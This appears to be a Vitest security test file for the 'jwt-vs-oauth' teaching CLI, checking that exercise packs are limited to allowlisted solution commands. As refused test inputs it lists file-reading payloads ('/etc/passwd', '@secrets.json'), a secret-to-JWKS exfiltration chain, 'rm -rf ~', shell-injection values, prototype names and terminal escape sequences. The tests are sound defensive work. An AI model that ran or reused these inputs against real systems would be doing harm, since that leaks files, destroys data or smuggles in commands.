// Teacher packs are data (issue #10, item 2 and the pack parts of item 7): a solution command may
// use only an allowlist of subcommands and options, so `exercises selftest` never reads a file,
// writes a file, reaches the network or reads stdin for a pack; {{names}} fill only known names;
// an exercise id like "constructor" is an ordinary id.

import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { fillTemplate } from '../../src/lessons/template.js';
import { solutionCommandWords } from '../../src/lessons/solution-commands.js';
import { runBin, runCli } from '../helpers/cli.js';

const FIXTURES = fileURLToPath(new URL('../fixtures/packs/', import.meta.url));
const home = () => ({ JWT_VS_OAUTH_HOME: mkdtempSync(join(tmpdir(), 'jwt-vs-oauth-packs-')) });
const HINT = /^A solution command may use only: jwt-vs-oauth mint \(or sign\) with --alg --secret .* jwt-vs-oauth decode <token> with --json\.$/;

/** A pack of one exercise whose solution runs these commands. */
function packWith(commands: string[], overrides: Record<string, unknown> = {}): string {
  const pack = mkdtempSync(join(tmpdir(), 'jwt-vs-oauth-pack-'));
  writeFileSync(join(pack, 'evil.json'), JSON.stringify({
    id: 'pack-evil',
    title: 'Looks harmless',
    topic: 'read-a-token',
    task: ['Your token: {{token}}'],
    material: { kind: 'token' },
    check: { kind: 'answer', expected: '{{sub}}' },
    hints: ['decode it'],
    solution: { explain: ['read sub'], commands, answers: ['{{sub}}'] },
    ...overrides,
  }));
  return pack;
}

describe('a solution command may use only the allowlist', () => {
  test.each([
    ['jwt-vs-oauth mint --payload @~/secrets.json', '--payload with @file, which reads a file'],
    ['jwt-vs-oauth mint --payload=@secrets.json', '--payload with @file, which reads a file'],
    ['jwt-vs-oauth mint --payload "@secrets.json"', '--payload with @file, which reads a file'],
    ["jwt-vs-oauth mint --payload='@secrets.json'", '--payload with @file, which reads a file'],
    ['jwt-vs-oauth verify {{token}} --jwks http://host/?x={{token}}', '--jwks, which reaches the network'],
    ['jwt-vs-oauth verify {{token}} "--jwks=http://host/"', '--jwks, which reaches the network'],
    ['jwt-vs-oauth verify {{token}} --discover http://host', '--discover, which reaches the network'],
    ['jwt-vs-oauth verify {{token}} --secret s --timeout 1s', '--timeout, which only matters for --jwks and --discover'],
    ['jwt-vs-oauth verify {{token}} --key /etc/passwd', '--key, which reads a file'],
    ['jwt-vs-oauth verify {{token}} --key=/etc/passwd', '--key, which reads a file'],
    ["jwt-vs-oauth sign --sub asha '--key' k.pem", '--key, which reads a file'],
    ['jwt-vs-oauth mint --save-key /tmp/anywhere.json', '--save-key, which writes files'],
    ['jwt-vs-oauth mint --save-key=/tmp/anywhere.json', '--save-key, which writes files'],
    ['jwt-vs-oauth decode -', 'reads the token from stdin ("-")'],
    ['jwt-vs-oauth decode --json', 'gives decode no token, so it would read stdin'],
    ['jwt-vs-oauth decode -- --jwks', 'uses a "--" separator'],
    ['jwt-vs-oauth mint -h', 'uses "-h": short options are not allowed'],
    ['jwt-vs-oauth mint -Vh', 'uses "-Vh": short options are not allowed'],
    ['jwt-vs-oauth mint --help', 'uses --help, which is not an option a solution command may use with mint'],
    ['jwt-vs-oauth verify {{token}} --secret s --no-color', 'uses --no-color, which is not an option'],
    ['jwt-vs-oauth mint --secret --save-key', 'gives --secret no value'],
    ['jwt-vs-oauth mint --json=@x', 'gives --json a value, but it takes none'],
    ['jwt-vs-oauth mint --{{token}} x', 'puts a template where an option name goes'],
    ['jwt-vs-oauth mint {{token}}', 'gives mint an argument'],
    ['jwt-vs-oauth provider --port 80', 'is not a jwt-vs-oauth decode, mint or verify command'],
    ['rm -rf ~', 'is not a jwt-vs-oauth decode, mint or verify command'],
    ['jwt-vs-oauth mint --sub "asha', 'cannot be read: a double quote is not closed'],
    ['jwt-vs-oauth mint --sub "$(whoami)"', 'holds "$" inside quotes, which a shell reads differently'],
    ['jwt-vs-oauth mint --sub `whoami`', 'holds "`", which a shell reads differently'],
    ['jwt-vs-oauth mint --sub asha;id', 'holds ";", which a shell reads differently'],
  ])('%s → exit 2, %s', async (command, problem) => {
    const result = await runCli(['ex', '--pack', packWith([command]), 'list'], { env: home() });
    expect(result.code).toBe(2);
    const [message, hint, ...rest] = result.stderr.split('\n');
    expect(message).toContain(`evil.json: exercise "pack-evil": solution command 1 (`);
    expect(message).toContain(problem);
    expect(hint).toMatch(HINT);
    expect(rest).toEqual(['']);
  });

  test('the exfiltration from the issue is refused by selftest (the built bin): exit 2, naming the exercise, command and option', () => {
    const result = runBin(['exercises', '--pack', join(FIXTURES, 'exfiltrate'), 'selftest'], { env: home() });
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr.split('\n')[0]).toBe(`error: ${join(FIXTURES, 'exfiltrate', '01-exfiltrate.json')}: exercise "pack-exfiltrate": solution command 1 ("jwt-vs-oauth mint --payload @~/secrets.json") uses --payload with @file, which reads a file; give the claims as inline JSON.`);
    expect(result.stderr).not.toMatch(/This is a bug|\n\s+at /);
  });

  test('the allowed options still run: every option on the list, quoted and with =', async () => {
    const pack = packWith([
      "jwt-vs-oauth mint --alg {{alg}} --secret={{secret}} --sub {{sub}} --iss {{iss}} --aud {{aud}} --exp 10m --nbf 0s --jti --claim 'role=reader' --payload '{\"scope\":\"read\"}' --kid k1 --typ JWT --header \"cty=JWT\"",
      'jwt-vs-oauth verify {{output.1}} --secret {{secret}} --alg {{alg}} --iss {{iss}} --aud {{aud}} --sub {{sub}} --typ JWT --max-age 1h --require jti --clock-tolerance 5s --json',
      'jwt-vs-oauth sign --no-exp --secret {{secret}} --json',
      'jwt-vs-oauth decode {{output.1}} --json',
    ]);
    const result = await runCli(['ex', '--pack', pack, 'selftest', '--json'], { env: home() });
    expect(JSON.parse(result.stdout).exercises).toEqual([{ id: 'pack-evil', title: 'Looks harmless', ok: true, solutionPasses: true, emptyAnswerFails: true }]);
    expect(result.code).toBe(0);
  });
});

describe('nothing is read, written or sent for a refused pack', () => {
  let server: Server;
  let requests: string[];
  let port: number;
  beforeAll(async () => {
    requests = [];
    server = createServer((request, response) => {
      requests.push(request.url ?? '');
      response.writeHead(200, { 'content-type': 'application/json' }).end('{"keys":[]}');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  test('a local file minted into a token and sent to a JWKS URL: no request, the file never shows, exit 2', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'jwt-vs-oauth-secrets-'));
    writeFileSync(join(folder, 'secrets.json'), '{"stolen":"MARKER-7f3a"}');
    const pack = packWith([
      `jwt-vs-oauth mint --payload @${join(folder, 'secrets.json')}`,
      `jwt-vs-oauth verify {{output.1}} --jwks http://127.0.0.1:${port}/?x={{output.1}}`,
    ]);
    const result = await runCli(['ex', '--pack', pack, 'selftest', '--json'], { env: home() });
    expect(result.code).toBe(2);
    // With --json, only the refusal, as JSON: no result, and nothing of the file.
    expect(JSON.parse(result.stdout)).toEqual({ error: expect.objectContaining({ code: 'ERR_SOLUTION_COMMAND', exitCode: 2 }) });
    expect(result.stdout).not.toContain('MARKER-7f3a');
    expect(result.stderr).toContain('solution command 1');
    expect(result.stderr).toContain('uses --payload with @file, which reads a file');
    expect(result.stderr).not.toContain('MARKER-7f3a');
    expect(requests).toEqual([]);

    const networkOnly = packWith([`jwt-vs-oauth verify {{token}} --jwks http://127.0.0.1:${port}/jwks`]);
    const second = await runCli(['ex', '--pack', networkOnly, 'selftest'], { env: home() });
    expect(second.code).toBe(2);
    expect(second.stderr).toContain('uses --jwks, which reaches the network');
    expect(requests).toEqual([]);
  });

  test('--save-key to a temporary path: no file appears, exit 2', async () => {
    const target = join(mkdtempSync(join(tmpdir(), 'jwt-vs-oauth-save-')), 'key.json');
    const pack = packWith([`jwt-vs-oauth mint --alg ES256 --save-key ${target}`]);
    const result = await runCli(['ex', '--pack', pack, 'selftest'], { env: home() });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('uses --save-key, which writes files');
    expect(existsSync(target)).toBe(false);
    expect(existsSync(target.replace(/\.json$/, '.pub.json'))).toBe(false);
  });
});

describe('{{names}} are filled after the command is split, and checked again', () => {
  const where = { exerciseId: 'x', commandNumber: 2 };
  const fillWith = (values: Record<string, string>) => (word: string) => fillTemplate(word, values);

  test('a filled value stays one word: an earlier output holding " --jwks http://…" cannot become an option', () => {
    const words = solutionCommandWords('jwt-vs-oauth verify {{output.1}} --secret s', fillWith({ 'output.1': 'eyJ --jwks http://host/' }), where);
    expect(words).toEqual(['verify', 'eyJ --jwks http://host/', '--secret', 's']);
  });

  test.each([
    ['jwt-vs-oauth verify {{output.1}} --secret s', '--jwks=http://host/', 'uses --jwks, which reaches the network'],
    ['jwt-vs-oauth mint --payload {{output.1}}', '@/etc/passwd', 'uses --payload with @file, which reads a file'],
    ['jwt-vs-oauth decode {{output.1}}', '-', 'reads the token from stdin'],
  ])('%s with output.1 = %s is refused after filling', (command, output, problem) => {
    expect(() => solutionCommandWords(command, fillWith({ 'output.1': output }), where)).toThrow(`exercise "x": solution command 2, once its {{names}} are filled, ${problem}`);
  });
});

describe('templates fill only known names', () => {
  test('{{constructor}} and {{__proto__}} in a pack are refused at load, naming the file and the name', async () => {
    const result = await runCli(['ex', '--pack', join(FIXTURES, 'prototype-template'), 'list'], { env: home() });
    expect(result.code).toBe(2);
    expect(result.stderr).toBe(`error: ${join(FIXTURES, 'prototype-template', '01-proto-names.json')}: "task[1]": "{{constructor}}" is not a name this exercise fills; it can use {{token}}, {{sub}}, {{aud}}, {{alg}}, {{iss}}, {{exp}}, {{expIso}}, {{secret}}\n`);
  });

  test.each([
    ['a typo in the task', { task: ['Your token: {{tokn}}'] }, '"task[0]": "{{tokn}}" is not a name'],
    ['spaces inside the braces', { hints: ['{{ token }}'] }, '"hints[0]": "{{ token }}" is not a name'],
    ['an answer outside the check', { task: ['{{answer.1}}'] }, '"task[0]": "{{answer.1}}" is not a name'],
    ['a command reading its own output', { solution: { explain: ['e'], commands: ['jwt-vs-oauth decode {{output.1}}'], answers: ['{{sub}}'] } }, '"solution.commands[0]": "{{output.1}}" is not a name'],
    ['an output no command makes', { solution: { explain: ['e'], answers: ['{{output.1}}'] } }, '"solution.answers[0]": "{{output.1}}" is not a name'],
    ['no material at all', { material: undefined, task: ['{{token}}'] }, '"task[0]": "{{token}}" is not a name this exercise fills; it has no material'],
    ['a name in the title', { title: 'Token {{sub}}' }, '"title": "{{sub}}" is not a name this exercise fills; the title and the choices are shown as written, without {{names}}'],
  ])('%s is refused at load', async (_name, overrides, message) => {
    const result = await runCli(['ex', '--pack', packWith([], { solution: { explain: ['e'], answers: ['{{sub}}'] }, ...overrides }), 'list'], { env: home() });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(`evil.json: ${message}`);
  });

  test('fillTemplate never reaches Object.prototype', () => {
    expect(fillTemplate('{{constructor}} {{__proto__}} {{toString}} {{hasOwnProperty}} {{sub}}', { sub: 'asha' })).toBe('{{constructor}} {{__proto__}} {{toString}} {{hasOwnProperty}} asha');
  });
});

describe('prototype names are ordinary exercise ids', () => {
  const pack = join(FIXTURES, 'prototype-ids');

  test('an exercise called "constructor" is not passed until it passes; list, show, progress, check and selftest work', async () => {
    const env = home();
    const listed = await runCli(['ex', '--pack', pack, 'list', '--json'], { env });
    expect(listed.code).toBe(0);
    expect(JSON.parse(listed.stdout).exercises.at(-1)).toEqual({ id: 'constructor', title: 'An id that is also a name on Object.prototype', topic: 'read-a-token', done: false });
    const shown = await runCli(['ex', '--pack', pack, 'show', 'constructor'], { env });
    expect(shown.code).toBe(0);
    expect(shown.stdout.split('\n')[0]).toBe('An id that is also a name on Object.prototype  [constructor · read-a-token]');
    const progress = JSON.parse((await runCli(['ex', '--pack', pack, 'progress', '--json'], { env })).stdout);
    expect(progress.passed).toBe(0);
    expect(progress.exercises.at(-1)).toEqual({ id: 'constructor', topic: 'read-a-token', passed: false, passedAt: null, attempts: 0, hintsShown: 0 });
    const hint = await runCli(['ex', '--pack', pack, 'hint', 'constructor'], { env });
    expect(hint.stdout).toBe('Hint 1 of 1: decode it, then read sub.\nThat was the last hint. The answer opens after 3 failed attempts: 3 more to go.\n');
    const locked = await runCli(['ex', '--pack', pack, 'solution', 'constructor'], { env });
    expect(locked.code).toBe(1);
    const token = JSON.parse((await runCli(['ex', '--pack', pack, 'show', 'constructor', '--json'], { env })).stdout).task[0].replace('Your token: ', '');
    const decoded = JSON.parse((await runCli(['decode', token, '--json'])).stdout);
    expect((await runCli(['ex', '--pack', pack, 'check', 'constructor', 'nobody'], { env })).code).toBe(1);
    expect((await runCli(['ex', '--pack', pack, 'check', 'constructor', decoded.payload.sub], { env })).code).toBe(0);
    const after = JSON.parse((await runCli(['ex', '--pack', pack, 'progress', '--json'], { env })).stdout);
    expect(after.exercises.at(-1)).toMatchObject({ id: 'constructor', passed: true, attempts: 2, hintsShown: 1 });
    expect((await runCli(['ex', '--pack', pack, 'selftest'], { env })).stdout).toMatch(/^✓ constructor {2}the solution passes; an empty answer fails\n/);
  });

  test.each(['__proto__', 'toString', 'hasOwnProperty'])('an id %s is refused at load with exit 2, not a crash', async (id) => {
    const result = await runCli(['ex', '--pack', packWith([], { id, solution: { explain: ['e'], answers: ['{{sub}}'] } }), 'list', '--json'], { env: home() });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/^error: \S+evil\.json: "id": must be lower-case letters, digits and dashes\n$/);
  });
});

describe('the built-in exercises keep to the same rule', () => {
  test('exercises selftest of every built-in exercise passes', async () => {
    const result = await runCli(['ex', 'selftest', '--json'], { env: home() });
    const outcome = JSON.parse(result.stdout);
    expect(outcome.exercises.filter((exercise: { ok: boolean }) => !exercise.ok)).toEqual([]);
    expect(outcome.exercises.length).toBeGreaterThanOrEqual(18);
    expect(result.code).toBe(0);
  });
});

describe('pack text cannot rewrite a learner terminal or exhaust the loader', () => {
  test.each([
    ['an escape sequence in the task', { task: ['Your token: {{token}}\u001b[8m hidden'] }, 'task[0]'],
    ['a carriage return in a hint', { hints: ['fine\r✓ All exercises passed'] }, 'hints[0]'],
    ['a bidi override in the title', { title: 'abc\u202e' }, 'title'],
    ['a control character in a key', { check: { kind: 'answer', expected: '{{sub}}', 'x\u0007': 1 } }, 'check.x\\x07'],
  ])('%s is refused at load with exit 2, naming the field', async (_name, overrides, field) => {
    const pack = packWith(['jwt-vs-oauth decode {{token}}'], overrides);
    const result = await runCli(['exercises', '--pack', pack, 'list'], { env: home() });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(`${field}: holds a control`);
    expect(result.stderr).not.toMatch(/[\u001b\u0007\r\u202e]/);
  });

  test('a file nested 5 000 levels deep or larger than 256 KiB is refused with exit 2', async () => {
    const deep = mkdtempSync(join(tmpdir(), 'jwt-vs-oauth-pack-'));
    writeFileSync(join(deep, 'deep.json'), `${'['.repeat(5000)}${']'.repeat(5000)}`);
    const deepResult = await runCli(['exercises', '--pack', deep, 'list'], { env: home() });
    expect(deepResult.code).toBe(2);
    expect(deepResult.stderr).toContain('nests more than 64 levels deep');

    const large = packWith(['jwt-vs-oauth decode {{token}}'], { hints: ['x'.repeat(300 * 1024)] });
    const largeResult = await runCli(['exercises', '--pack', large, 'list'], { env: home() });
    expect(largeResult.code).toBe(2);
    expect(largeResult.stderr).toContain('larger than 256 KiB');
  });
});

describe('a pack folder that holds no pack', () => {
  test.each([
    ['an empty folder', () => mkdtempSync(join(tmpdir(), 'jwt-vs-oauth-pack-')), 'no exercise files (*.json) in this folder.'],
    ['a file', () => {
      const file = join(mkdtempSync(join(tmpdir(), 'jwt-vs-oauth-pack-')), 'pack.json');
      writeFileSync(file, '{}');
      return file;
    }, 'not a folder.'],
    ['a missing folder', () => join(tmpdir(), 'jwt-vs-oauth-no-such-pack'), 'no such folder.'],
  ])('%s: selftest and list exit 2 instead of "All 0 check out"', async (_name, makePack, problem) => {
    const pack = makePack();
    for (const command of ['selftest', 'list']) {
      const result = await runCli(['exercises', '--pack', pack, command], { env: home() });
      expect(result.code).toBe(2);
      expect(result.stderr).toBe(`error: --pack ${pack}: ${problem}\nA pack is a folder of exercise files (*.json), like lessons/example-pack/.\n`);
    }
  });
});

test('an empty --pack is refused, not read as "no pack"', async () => {
  const result = await runCli(['exercises', '--pack', '', 'list'], { env: home() });
  expect(result.code).toBe(2);
  expect(result.stderr).toBe('error: --pack needs a folder; it was empty.\nExample: --pack lessons/example-pack\n');
});
